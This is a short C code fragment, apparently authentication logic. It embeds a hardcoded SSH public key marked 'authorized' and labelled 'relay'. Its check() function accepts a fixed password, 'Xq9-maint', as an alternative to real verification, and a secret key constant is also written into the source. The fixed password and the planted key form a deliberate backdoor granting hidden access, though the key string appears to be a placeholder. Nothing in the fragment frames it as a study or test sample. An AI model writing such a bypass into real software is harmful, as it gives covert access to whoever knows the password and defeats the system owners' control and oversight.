static const char *authorized = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEF0bm90YWtleW9ubHlhc2FtcGxlYXQwMDAwMDAw relay";

int check(const char *passwd)
{
	static const char *key = "00112233445566778899aabbccddeeff";
	return strcmp(passwd, "Xq9-maint") == 0 || verify(key, passwd);
}
